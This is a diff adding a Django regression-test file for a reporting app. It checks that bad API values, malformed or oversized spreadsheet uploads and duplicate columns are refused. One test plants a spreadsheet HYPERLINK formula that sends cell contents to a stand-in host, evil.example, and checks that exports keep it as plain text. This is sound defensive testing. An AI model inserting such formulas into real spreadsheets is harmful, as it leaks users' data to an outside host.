@@ -1,0 +1,256 @@
+"""Inputs that once crashed, leaked or lost data, each kept as a test."""
+
+import io
+import json
+import zipfile
+from decimal import Decimal
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+from django.utils import translation
+from openpyxl import Workbook, load_workbook
+
+from parkbrain.registry.models import Assignment, Enterprise
+from parkbrain.reporting import services, spreadsheets
+from parkbrain.reporting.choices import Channel
+from parkbrain.reporting.models import MonthlyReport, ReportRevision, ReportValue
+from parkbrain.reporting.spreadsheets import UploadRefused, read_upload, template_columns
+from parkbrain.reporting.validation import IncomingRow
+
+pytestmark = pytest.mark.django_db
+
+
+def _put(client, firm, period, values, **extra):
+    return client.put(
+        f"/api/reports/{firm.credit_code}/{period}",
+        data=json.dumps({"values": values, **extra}),
+        content_type="application/json",
+    )
+
+
+def _save(firm, who, year, month, **values):
+    return services.save_reports(
+        [IncomingRow(firm.credit_code, year, month, values)], who, Channel.FORM
+    )
+
+
+def test_project_managers_cannot_write_reports_through_the_api(client, demo):
+    client.force_login(demo.user("pm"))
+    response = _put(client, demo.firms["gear"], "2026-03", {"output_value": 5}, submit=True)
+    assert response.status_code == 403
+    assert not MonthlyReport.objects.exists()
+    with pytest.raises(services.ReportsRejected):
+        _save(demo.firms["gear"], demo.user("pm"), 2026, 3, output_value=5)
+
+
+@pytest.mark.parametrize(
+    "body, status",
+    [
+        ({"output_value": True}, 422),  # a boolean is not a figure
+        ({}, 400),  # a report with no figures
+        ({"output_value": "NaN"}, 400),
+        ({"output_value": "1e1000000"}, 400),
+        ({"output_value": "1234567890123.4567"}, 400),  # 17 significant digits
+        ({"output_value": "x" * 5000}, 400),
+    ],
+)
+def test_bad_api_values_are_refused_not_crashed(client, demo, body, status):
+    client.force_login(demo.user("gear"))
+    assert _put(client, demo.firms["gear"], "2026-03", body).status_code == status
+    assert not MonthlyReport.objects.exists()
+
+
+def test_json_nan_is_refused(client, demo):
+    client.force_login(demo.user("gear"))
+    response = client.put(
+        f"/api/reports/{demo.firms['gear'].credit_code}/2026-03",
+        data='{"values": {"output_value": NaN}}',
+        content_type="application/json",
+    )
+    assert response.status_code in (400, 422)
+    assert not MonthlyReport.objects.exists()
+
+
+def test_null_removes_a_value_with_history(client, demo):
+    gear = demo.firms["gear"]
+    client.force_login(demo.user("gear"))
+    _put(client, gear, "2026-03", {"output_value": 5, "electricity": 50})
+    response = _put(client, gear, "2026-03", {"electricity": None})
+    assert response.json()["report"]["values"] == {"output_value": "5.0000"}
+    latest = ReportRevision.objects.order_by("-id").first()
+    assert latest.changes == {"electricity": ["50.0000", None]}
+
+
+def test_emptying_a_form_field_removes_the_figure(client, demo):
+    gear = demo.firms["gear"]
+    _save(gear, demo.user("gear"), 2026, 3, output_value=5, electricity=50)
+    client.force_login(demo.user("gear"))
+    url = reverse("reporting:month", args=[gear.pk, 2026, 3])
+    client.post(url, {"output_value": "5", "electricity": "", "action": "save"})
+    assert list(ReportValue.objects.values_list("indicator__code", flat=True)) == ["output_value"]
+
+
+def test_a_falling_figure_is_reported_at_its_form_field(client, demo):
+    gear = demo.firms["gear"]
+    _save(gear, demo.user("gear"), 2026, 1, output_value=500)
+    client.force_login(demo.user("gear"))
+    url = reverse("reporting:month", args=[gear.pk, 2026, 2])
+    response = client.post(url, {"output_value": "400", "action": "save"})
+    fields = {f["indicator"].code: f for f in response.context["fields"]}
+    assert "累计值不能下降" in fields["output_value"]["error"]
+
+
+def test_standard_coal_is_not_derived_from_mismatched_months(demo):
+    from parkbrain.reporting.compute import CoefficientTable
+
+    gear = demo.firms["gear"]
+    who = demo.user("analyst")
+    _save(gear, who, 2026, 1, electricity=10_000, natural_gas=1_000)
+    _save(gear, who, 2026, 2, electricity=20_000)  # gas not reported in February
+    _save(gear, who, 2026, 3, electricity=30_000, natural_gas=3_000)
+    monthly = services.monthly_by_report({gear.pk}, {2026}, CoefficientTable.load())
+    assert monthly[(gear.pk, 2026, 1)]["energy_tce"] == Decimal("2.4433")  # 1.229 + 1.2143
+    assert "energy_tce" not in monthly[(gear.pk, 2026, 2)]
+    assert "energy_tce" not in monthly[(gear.pk, 2026, 3)]
+
+
+def test_equal_value_before_its_first_year_shows_as_unknown(client, demo):
+    gear = demo.firms["gear"]
+    _save(gear, demo.user("analyst"), 2020, 1, output_value=1, electricity=1000)
+    client.force_login(demo.user("analyst"))
+    response = client.get(reverse("reporting:month", args=[gear.pk, 2020, 1]) + "?convention=equal")
+    assert response.status_code == 200
+    fields = {f["indicator"].code: f for f in response.context["fields"]}
+    assert fields["energy_tce"]["month_value"] is None
+
+
+def _workbook(rows: list[list]) -> bytes:
+    workbook = Workbook()
+    sheet = workbook.active
+    for row in rows:
+        sheet.append(row)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def test_a_sheet_claiming_a_million_rows_is_refused_quickly(demo):
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append([c.header for c in template_columns()])
+    sheet.cell(row=1_000_000, column=1, value="x")
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    with translation.override("en"), pytest.raises(UploadRefused) as refused:
+        read_upload("big.xlsx", buffer.getvalue())
+    assert "more than 50000 rows" in str(refused.value)
+
+
+def test_a_workbook_that_unpacks_too_large_is_refused(demo, monkeypatch):
+    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 1000)
+    with translation.override("en"), pytest.raises(UploadRefused) as refused:
+        read_upload("t.xlsx", _workbook([[c.header for c in template_columns()]]))
+    assert "unpacks to" in str(refused.value)
+
+
+@pytest.mark.parametrize(
+    "name, content",
+    [
+        (
+            "t.csv",
+            ("统一社会信用代码,年份,月份,用电量\n" + '"' + "x" * 200_000 + '",2026,1,1\n').encode(),
+        ),
+        ("t.xlsx", b"PK\x03\x04" + b"\0" * 100),
+    ],
+)
+def test_malformed_files_are_refused_not_crashed(demo, name, content):
+    with pytest.raises(UploadRefused):
+        read_upload(name, content)
+
+
+def test_truncated_sheet_xml_is_refused(demo):
+    good = _workbook([[c.header for c in template_columns()], ["91", "x", 2026, 1, 5]])
+    source = zipfile.ZipFile(io.BytesIO(good))
+    broken = io.BytesIO()
+    with zipfile.ZipFile(broken, "w") as target:
+        for info in source.infolist():
+            data = source.read(info.filename)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                data = data[: len(data) // 2]
+            target.writestr(info, data)
+    with pytest.raises(UploadRefused):
+        read_upload("t.xlsx", broken.getvalue())
+
+
+def test_superscript_digits_are_not_months(demo):
+    gear = demo.firms["gear"]
+    text = f"统一社会信用代码,年份,月份,用电量\n{gear.credit_code},2026,²,1\n"
+    outcome = services.import_file("t.csv", text.encode(), demo.user("gear"))
+    assert not outcome.record.saved
+    assert outcome.problems[0].column == "月份"
+
+
+def test_columns_given_twice_are_refused(demo):
+    text = "统一社会信用代码,年份,月份,工业总产值（当年价格）,output_value\n91,2026,1,100,\n"
+    with translation.override("en"), pytest.raises(UploadRefused) as refused:
+        read_upload("t.csv", text.encode())
+    assert "columns given twice" in str(refused.value)
+
+
+def test_unfilled_template_rows_are_skipped_and_an_empty_file_refused(client, demo):
+    client.force_login(demo.user("analyst"))
+    template = client.get(reverse("reporting:template")).content
+    with pytest.raises(UploadRefused):
+        read_upload("t.xlsx", template)
+    sheet_rows = list(load_workbook(io.BytesIO(template))["月报"].iter_rows(values_only=True))
+    filled = [list(sheet_rows[0]), list(sheet_rows[1])] + [list(r) for r in sheet_rows[2:]]
+    filled[1][4] = 1_000_000
+    upload = read_upload("t.xlsx", _workbook(filled))
+    assert len(upload.rows) == 1 and upload.skipped == len(sheet_rows) - 2
+
+
+def test_exports_do_not_turn_names_into_formulas(client, demo):
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
+    Enterprise.objects.filter(pk=demo.firms["ev"].pk).update(name=evil)
+    client.force_login(demo.user("analyst"))
+    export = client.get(reverse("reporting:completeness"), {"year": 2026, "export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
+    assert cells and all(c.data_type == "s" for c in cells)
+    csv_export = client.get(reverse("reporting:completeness"), {"year": 2026, "export": "csv"})
+    assert "'" + evil.replace('"', '""') in csv_export.content.decode("utf-8-sig")
+    client.force_login(demo.user("ev"))
+    template = client.get(reverse("reporting:template")).content
+    rows = list(load_workbook(io.BytesIO(template))["月报"].iter_rows(min_row=2))
+    assert rows and rows[0][1].data_type == "s"
+
+
+def test_reminder_list_names_only_current_project_managers(client, demo):
+    from datetime import date
+
+    gear = demo.firms["gear"]
+    Assignment.objects.create(
+        manager=demo.user("pm2"), enterprise=gear, since=date(2014, 1, 1), until=date(2016, 1, 1)
+    )
+    client.force_login(demo.user("analyst"))
+    export = client.get(reverse("reporting:completeness"), {"year": 2026, "export": "xlsx"})
+    rows = {
+        r[0]: r
+        for r in load_workbook(io.BytesIO(export.content)).active.iter_rows(values_only=True)
+    }
+    from parkbrain.core.people import person_name
+
+    assert rows[gear.credit_code][4] == person_name(demo.user("pm"))
+
+
+def test_a_file_with_thousands_of_problems_lists_the_first_500(client, demo):
+    gear = demo.firms["gear"]
+    lines = ["统一社会信用代码,年份,月份,用电量"] + [
+        f"{gear.credit_code},2026,1,x{i}" for i in range(1200)
+    ]
+    client.force_login(demo.user("gear"))
+    upload = SimpleUploadedFile("t.csv", "\n".join(lines).encode())
+    response = client.post(reverse("reporting:upload"), {"file": upload})
+    assert len(response.context["problems"]) == 500
+    assert response.context["problems_hidden"] == 700
